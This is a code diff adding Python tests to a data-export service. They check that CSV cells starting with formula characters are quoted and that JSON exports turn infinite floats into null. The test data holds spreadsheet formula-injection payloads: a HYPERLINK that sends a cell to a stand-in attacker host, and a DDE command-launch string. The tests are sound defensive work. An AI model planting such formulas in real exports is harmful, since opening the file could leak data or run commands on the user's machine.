@@ -3,6 +3,10 @@
 from __future__ import annotations
 
 import contextlib
+import csv
+import io
+import json
+import math
 from collections.abc import AsyncIterator
 from datetime import UTC, datetime
 from pathlib import Path
@@ -193,3 +197,67 @@ async def test_flags_export_carries_the_whole_review_history(
     assert all(r["reviews"] == [] for i, r in by_id.items() if i != 1)
     _, csv_rows = parse_csv(text, doc["types"])
     assert next(r for r in csv_rows if r["flag_id"] == 1)["reviews"] == history
+
+
+#: Cells a spreadsheet would run: a node chooses its error text (timings ``error``).
+FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0",
+            "-2+3", "@SUM(1+1)", "\tx", "'=already quoted")  # fmt: skip
+
+
+async def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(
+    tmp_path: Path, profile: Profile
+) -> None:
+    """Text cells starting with = + - @ (or a tab, CR, LF, ') get a leading ' in the CSV
+    form, so a spreadsheet shows them as text; parse_csv takes it off again, and the JSON
+    form keeps the stored text. Without the quote the node's error text was a live
+    formula in timings.csv."""
+    async with export_client(tmp_path, profile, n_rounds=2, seed=6) as (rc, http, base):
+        with rc.coord.store._engine.begin() as conn:
+            ids = [r.id for r in conn.execute(select(tables.results.c.id))]
+            for i, formula in zip(ids, FORMULAS, strict=False):
+                conn.execute(
+                    tables.results.update().where(tables.results.c.id == i).values(error=formula)
+                )
+        reviews = ReviewStore(rc.coord.store)
+        reviews.review(1, "acknowledged", "@bob", "=1+1")
+        for kind in ("timings", "flags"):
+            expected = db_rows(rc.coord.store, kind)
+            doc, text = await json_and_csv(http, f"{base}/{kind}")
+            assert doc["rows"] == expected, kind
+            cells = [c for line in csv.reader(io.StringIO(text)) for c in line]
+            assert not [c for c in cells if c and c[0] in "=+@\t"], kind
+            assert not [c for c in cells if c[:1] == "-" and not c[1:2].isdigit()], kind
+            _, rows = parse_csv(text, doc["types"])
+            assert rows == expected, kind
+        assert len(ids) >= len(FORMULAS)
+        assert "'@bob" in text and "'=1+1" in text  # the flags export
+        _, timings = await json_and_csv(http, f"{base}/timings")
+        assert '"\'=HYPERLINK(""http://evil.example' in timings
+        assert "''=already quoted" in timings and "'-2+3" in timings
+
+
+async def test_json_exports_are_strict_json_with_non_finite_floats(
+    tmp_path: Path, profile: Profile
+) -> None:
+    """An inf in a float column or inside a JSON column was written as ``Infinity``,
+    which JSON.parse and jq refuse: now ``null`` in the JSON form (as in the admin API);
+    the CSV form keeps ``Infinity`` and reads back as inf."""
+    async with export_client(tmp_path, profile, n_rounds=2, seed=7) as (rc, http, base):
+        with rc.coord.store._engine.begin() as conn:
+            conn.execute(tables.verdicts.update().values(elapsed_s=float("inf")))
+            conn.execute(tables.rounds.update().values(summary={"total_s": float("-inf")}))
+
+        def refuse(constant: str) -> Any:
+            raise ValueError(f"not strict JSON: {constant}")
+
+        cases = (("verdicts", "elapsed_s", None), ("rounds", "summary", "total_s"))
+        for kind, column, inside in cases:
+            doc, text = await json_and_csv(http, f"{base}/{kind}")
+            async with http.get(f"{base}/{kind}.json") as resp:
+                json.loads(await resp.text(), parse_constant=refuse)
+            for row in doc["rows"]:
+                assert (row[column] if inside is None else row[column][inside]) is None
+            _, rows = parse_csv(text, doc["types"])
+            for row in rows:
+                value = row[column] if inside is None else row[column][inside]
+                assert value is not None and math.isinf(value), kind
